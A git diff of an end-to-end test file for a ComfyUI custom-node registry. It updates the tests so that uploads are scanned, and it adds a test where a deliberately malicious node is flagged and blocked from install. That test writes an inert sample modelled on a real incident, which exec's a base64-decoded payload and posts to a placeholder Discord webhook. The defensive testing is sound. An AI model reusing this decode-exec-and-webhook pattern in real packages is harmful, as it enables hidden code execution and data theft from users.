@@ -129,7 +129,7 @@ def test_publish_install_and_manager_reads(comfy: ComfyCli, served_stack: Served
     with zipfile.ZipFile(io.BytesIO(uploaded)) as archive:
         assert sorted(archive.namelist()) == sorted(source), "node.zip does not hold exactly the git-tracked files"
 
-    # 2. the API shows the node; no scanner exists yet, so the version stays pending
+    # 2. the upload was scanned in-process (pending -> active) and the API shows the node
     r = served_stack.get(f"/nodes/{node_id}")
     assert r.status_code == 200, f"GET /nodes/{node_id} -> {r.status_code} {r.text}"
     node = r.json()
@@ -138,7 +138,10 @@ def test_publish_install_and_manager_reads(comfy: ComfyCli, served_stack: Served
     assert node["repository"] == f"https://github.com/example/{node_id}"
     latest = node["latest_version"]
     assert latest["version"] == "1.0.0", node
-    assert latest["status"] == PENDING, node
+    assert latest["status"] == ACTIVE, node
+    assert latest["status_reason"] == "Passed automated checks", node
+    # the scanner's own log line shows the upload event arriving and the verdict applied
+    assert f"scanner: {publisher_id}/{node_id}/1.0.0/node.zip -> scanned active" in served_stack.log_path.read_text()
 
     # 3. the uploaded archive is served unchanged at the version's downloadUrl
     r = served_stack.get(f"/nodes/{node_id}/install", params={"version": "1.0.0"})
@@ -264,3 +267,43 @@ def test_publish_with_a_wrong_token_fails_with_the_server_message(
     assert (error.get("details") or {}).get("status") == r.status_code, result.describe()
     assert not (repo / "node.zip").exists(), "comfy-cli built an archive although the publish was refused"
     assert served_stack.get(f"/nodes/{node_id}").status_code == 404
+
+
+def test_malicious_pack_is_flagged_and_cannot_be_installed(
+    comfy: ComfyCli, served_stack: ServedStack, tmp_path: Path
+) -> None:
+    publisher_id, node_id = "e2e-pub-evil", "e2e-evil-node"
+    pat = served_stack.publisher_with_token("e2e-evil-owner", publisher_id)
+    repo = make_node_repo(tmp_path, node_id, publisher_id)
+    # After the ComfyUI_LLMVISION incident: decode a payload, run it, post to a chat webhook (inert here).
+    (repo / "__init__.py").write_text(
+        "import base64, urllib.request\n"
+        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+        "urllib.request.urlopen('https://discord.com/api/webhooks/000/xxx', data=b'x')\n"
+        "NODE_CLASS_MAPPINGS = {}\n"
+    )
+    _git(repo, "add", "-A")
+    _git(repo, "commit", "-qm", "evil")
+    result = publish(comfy, repo, pat)
+    assert result.returncode == 0, result.describe()  # the upload itself succeeds; the scan judges it
+
+    versions = served_stack.get(f"/nodes/{node_id}/versions", params={"include_status_reason": "true"}).json()
+    assert [(v["version"], v["status"]) for v in versions] == [("1.0.0", "NodeVersionStatusFlagged")], versions
+    assert versions[0]["status_reason"].startswith("Flagged by automated checks")
+    r = served_stack.get(f"/nodes/{node_id}/install", params={"version": "1.0.0"})
+    assert r.status_code == 403, r.text
+
+    workspace = tmp_path / "ws-evil"
+    (workspace / "custom_nodes").mkdir(parents=True)
+    installed = comfy.run(
+        "--workspace",
+        str(workspace),
+        "node",
+        "registry-install",
+        node_id,
+        "--version",
+        "1.0.0",
+        "--force-download",
+        cwd=tmp_path,
+    )
+    assert not (workspace / "custom_nodes" / node_id).exists(), installed.describe()
